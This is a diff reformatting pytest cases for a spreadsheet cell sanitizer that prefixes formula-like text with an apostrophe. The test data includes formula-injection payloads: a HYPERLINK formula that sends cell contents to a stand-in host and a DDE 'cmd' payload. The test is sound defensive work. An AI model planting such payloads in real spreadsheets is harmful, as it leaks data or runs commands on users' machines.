@@ -8,14 +8,42 @@ from openpyxl import Workbook, load_workbook
 from fne_kernel.spreadsheets import safe_cell, safe_row
 
 
-@pytest.mark.parametrize("value", ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+cmd|' /C calc'!A0",
-                                   "-2+3", "@SUM(1)", "\t=1", "\r=1", "-", "+", "=", "- Lundi"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://x.example/?"&A1,"clic")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "-",
+        "+",
+        "=",
+        "- Lundi",
+    ],
+)
 def test_text_that_would_start_a_formula_is_prefixed_with_an_apostrophe(value: str) -> None:
     assert safe_cell(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", ["Médiathèque", "", " =1", "'=1", "+33479600404", "-3,5", "-12.25", "+33 4 79 60 04 04",
-                                   3, -3.5, None, True])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Médiathèque",
+        "",
+        " =1",
+        "'=1",
+        "+33479600404",
+        "-3,5",
+        "-12.25",
+        "+33 4 79 60 04 04",
+        3,
+        -3.5,
+        None,
+        True,
+    ],
+)
 def test_other_values_are_left_alone(value: object) -> None:
     assert safe_cell(value) == value
 
